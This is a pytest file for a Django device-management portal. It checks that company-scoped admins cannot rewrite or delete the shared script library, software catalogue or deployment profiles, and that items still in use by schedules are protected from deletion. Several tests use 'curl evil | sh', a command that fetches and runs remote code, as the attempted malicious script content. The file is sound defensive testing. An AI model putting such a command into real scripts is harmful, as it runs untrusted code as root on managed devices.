"""The script library, software catalogue and deployment profiles run as root on every company's devices:
only admins who see every company may change them, and nothing in use is deleted from under the schedules
and profiles that use it. Before, an admin of one company could rewrite a script that other companies'
schedules ran, and deleting it silently deleted their schedules."""

from __future__ import annotations

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.db.models import ProtectedError
from django.urls import reverse

from portal.access import system_actor
from portal.actions import library, scheduling
from portal.actions.models import ActionSchedule, ActionType, ScheduleKind, Script
from tests.conftest import logged_in
from tests.graphql_client import global_id

MSP = system_actor("msp admin")


@pytest.fixture
def script(db):
    return library.create_script(actor=MSP, name="Patch report", language="bash", content="apt list --upgradable")


@pytest.fixture
def software(db):
    return library.create_software_item(actor=MSP, name="Firefox", apt_name="firefox-esr")


@pytest.fixture
def profile(db, script):
    profile = library.create_profile(actor=MSP, name="Baseline")
    library.add_profile_task(actor=MSP, profile=profile, name="report", action_type=ActionType.RUN_SCRIPT,
                             script=script)
    return profile


@pytest.mark.django_db
def test_a_company_scoped_admin_cannot_change_the_library(admin_a, actor_of, script, software, profile):
    actor = actor_of(admin_a)
    task = profile.tasks.get()
    writes = [
        lambda: library.create_script(actor=actor, name="x", language="bash", content="id"),
        lambda: library.update_script(actor=actor, script=script, content="curl evil | sh"),
        lambda: library.delete_script(actor=actor, script=script),
        lambda: library.create_software_item(actor=actor, name="y", apt_name="y"),
        lambda: library.update_software_item(actor=actor, softwareitem=software, apt_name="evil"),
        lambda: library.delete_software_item(actor=actor, softwareitem=software),
        lambda: library.create_profile(actor=actor, name="z"),
        lambda: library.update_profile(actor=actor, deploymentprofile=profile, name="renamed"),
        lambda: library.delete_profile(actor=actor, deploymentprofile=profile),
        lambda: library.add_profile_task(actor=actor, profile=profile, name="t", action_type=ActionType.REBOOT),
        lambda: library.delete_profile_task(actor=actor, profiletask=task),
    ]
    for write in writes:
        with pytest.raises(PermissionDenied, match="admin who sees all companies"):
            write()
    assert Script.objects.get().content == "apt list --upgradable"


@pytest.mark.django_db
def test_graphql_and_pages_refuse_a_scoped_admin(gql_as, admin_a, script):
    answer = gql_as(admin_a)("""mutation ($id: ID!) { updateScript(input: {id: $id, content: "curl evil | sh"}) {
        node { id } errors { code message } } }""", {"id": global_id("Script", script.pk)})["data"]["updateScript"]
    assert answer["node"] is None and answer["errors"][0]["code"] == "permission_denied"
    deleted = gql_as(admin_a)("""mutation ($id: ID!) { deleteScript(input: {id: $id}) { errors { code } } }""",
                              {"id": global_id("Script", script.pk)})["data"]["deleteScript"]
    assert deleted["errors"][0]["code"] == "permission_denied"
    client = logged_in(admin_a)
    assert client.post(reverse("resource-edit", args=["scripts", script.pk]), {
        "name": "Patch report", "language": "bash", "content": "curl evil | sh", "default_timeout": 60}
    ).status_code == 403
    assert client.post(reverse("resource-delete", args=["scripts", script.pk])).status_code == 403
    assert Script.objects.get().content == "apt list --upgradable"


@pytest.mark.django_db
def test_deleting_what_is_in_use_is_refused_with_where(tenant_a, tenant_b, operator_a, actor_of, admin_user, script,
                                                      software, profile):
    from tests import factories

    operator_b = factories.UserFactory(username="operator-b", role="operator", companies=[tenant_b.company])
    scheduling.create_schedule(actor=actor_of(operator_a), company=tenant_a.company, name="Nightly report",
                               script=script, kind=ScheduleKind.MINUTES, every=60)
    scheduling.create_schedule(actor=actor_of(operator_b), company=tenant_b.company, name="Bravo baseline",
                               profile=profile, kind=ScheduleKind.MINUTES, every=60)
    library.add_profile_task(actor=MSP, profile=profile, name="firefox", action_type=ActionType.INSTALL_SOFTWARE,
                             software=software)
    admin = actor_of(admin_user)
    with pytest.raises(ValidationError) as refused:
        library.delete_script(actor=admin, script=script)
    message = " ".join(refused.value.messages)
    assert "schedule “Nightly report” (Alpha Corp)" in message and "profile “Baseline” (task “report”)" in message
    with pytest.raises(ValidationError, match="schedule “Bravo baseline” \\(Bravo Corp\\)"):
        library.delete_profile(actor=admin, deploymentprofile=profile)
    with pytest.raises(ValidationError, match="profile “Baseline” \\(task “firefox”\\)"):
        library.delete_software_item(actor=admin, softwareitem=software)
    assert ActionSchedule.objects.count() == 2
    # The database refuses too, whoever writes around the services.
    with pytest.raises(ProtectedError):
        Script.objects.filter(pk=script.pk).delete()


@pytest.mark.django_db
def test_an_unused_script_is_deleted_and_its_versions_stay(admin_user, actor_of, db):
    unused = library.create_script(actor=MSP, name="Old", language="bash", content="echo old")
    library.delete_script(actor=actor_of(admin_user), script=unused)
    from portal.actions.models import ScriptVersion

    kept = ScriptVersion.objects.get(name="Old")
    assert kept.script_id is None and kept.content == "echo old"
